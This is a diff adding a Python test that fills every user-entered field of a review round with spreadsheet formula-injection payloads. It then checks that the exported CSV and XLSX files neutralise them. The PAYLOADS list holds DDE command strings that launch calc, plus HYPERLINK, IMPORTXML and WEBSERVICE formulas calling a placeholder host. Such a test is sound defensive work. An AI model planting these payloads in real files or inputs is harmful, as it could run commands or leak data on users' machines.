@@ -1,0 +1,127 @@
+"""A15: texts that a spreadsheet would run, in every field of a whole round."""
+
+import csv
+import io
+from dataclasses import replace
+from pathlib import Path
+
+import openpyxl
+
+from reviewer_app.core.round import RoundPlan
+from reviewer_app.core.votes import CastVote, Choice, Vote
+from reviewer_app.papers.escape import ACTIVE
+from reviewer_app.services import closing, deliberating
+from reviewer_app.services.dossier import make_dossier
+from reviewer_app.services.findings import statistics_json
+from reviewer_app.services.records import OpinionRecord
+from reviewer_app.services.results import marks_csv, results_of
+from reviewer_app.sheets.score_sheet import Remark
+from tests.faults import altering
+from tests.faults.conftest import Trials
+from tests.services.day import NOON, Day, app, plan
+
+PAYLOADS = [
+    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", '=HYPERLINK("http://x","y")',
+    '=IMPORTXML(CONCAT("http://x",A1),"//a")', '=DDE("cmd","/C calc","x")', " =1+1",
+    "　=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\u200b=1+1", "\ufeff=1+1", "=\u202e1+1",
+    "-2+3+cmd|' /C calc'!D2", "=A1", "{=1+1}", '=WEBSERVICE("http://x")', "@=1+1", "==1", "=-1",
+    "'=1+1",
+]  # fmt: skip
+
+
+def seen(place: int) -> str:
+    """Return a payload without invisible characters: names with those are not issued."""
+    return PAYLOADS[place % 14]
+
+
+def poisoned(small: RoundPlan, shift: int) -> RoundPlan:
+    """Return the plan with another payload in every text a person could have typed."""
+
+    def bad(place: int) -> str:
+        return PAYLOADS[(shift + place) % len(PAYLOADS)]
+
+    return replace(
+        small,
+        title=bad(0),
+        organiser=bad(1),
+        place=bad(2),
+        weights_confirmed_by=bad(3),
+        applications=tuple(
+            replace(each, name=bad(4 + at), short_name=bad(7 + at), unit=bad(10 + at))
+            for at, each in enumerate(small.applications)
+        ),
+        experts=tuple(
+            replace(
+                each, name=f"{seen(shift + at)}{at}", employer=f"{seen(shift + 5 + at)}{at}"
+            )
+            for at, each in enumerate(small.experts)
+        ),
+    )
+
+
+def whole_round(folder: Path, shift: int) -> tuple[Day, dict[str, bytes]]:
+    """Return every table that a round exports, by name."""
+    folder.mkdir()
+    day = Day.start(folder, poisoned(plan(experts=3), shift))
+    day.issue()
+    remark = Remark(PAYLOADS[shift], PAYLOADS[-1 - shift], ())
+    paths = []
+    for laptop in day.laptops.values():
+        content = laptop.content({1: 80, 2: 70, 3: 60})
+        paths.append(laptop.sign(folder, content, {app(1): {"6.1": remark}}))
+    day.collect(*paths)
+    bureau, bad = day.context.open_bureau, PAYLOADS[shift]
+    closing.close_round(bureau, day.round_id, NOON, bad)
+    vote = CastVote("01", "01", Vote(Choice.REJECT, bad))
+    deliberating.record_votes(bureau, day.round_id, [vote], NOON)
+    opinion = OpinionRecord(day.round_id, app(1), bad, bad, bad, bad)
+    deliberating.record_opinion(bureau, opinion, NOON)
+    found = results_of(bureau, day.round_id)
+    tables = make_dossier(bureau, day.round_id, NOON)
+    tables["marks.csv"], tables["slips.csv"] = (
+        marks_csv(found),
+        (folder / "slips.csv").read_bytes(),
+    )
+    assert statistics_json(found)
+    return day, tables
+
+
+def test_no_text_becomes_a_formula(tmp_path: Path, trials: Trials) -> None:
+    rounds, cells = trials.count(len(PAYLOADS), 1), 0
+    for shift in range(rounds):
+        day, tables = whole_round(tmp_path / f"{shift}", shift)
+        for name, data in tables.items():
+            if name.endswith(".xlsx"):
+                cells += check_workbook(data)
+            elif name.endswith(".csv"):
+                cells += check_csv(data)
+        altering.close(day)
+    assert cells > 100 * rounds
+    trials.survived("A15 rounds", rounds)
+    trials.survived("A15 cells", cells)
+
+
+def check_workbook(data: bytes) -> int:
+    """See that every formula is the program's own and every text is only text."""
+    seen = 0
+    for sheet in openpyxl.load_workbook(io.BytesIO(data)):
+        for cell in (
+            cell for row in sheet.iter_rows() for cell in row if cell.value is not None
+        ):
+            seen += 1
+            text = str(cell.value)
+            if cell.data_type == "f":
+                assert not [bad for bad in PAYLOADS if bad in text], (cell.coordinate, text)
+            elif cell.data_type in ("s", "inlineStr"):
+                assert text[0] not in ACTIVE, (sheet.title, cell.coordinate, text)
+    return seen
+
+
+def check_csv(data: bytes) -> int:
+    """See that no field begins as a formula does, white space and marks left aside."""
+    seen = 0
+    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
+        for field in row:
+            seen += 1
+            assert not field or field[0] not in ACTIVE, field
+    return seen
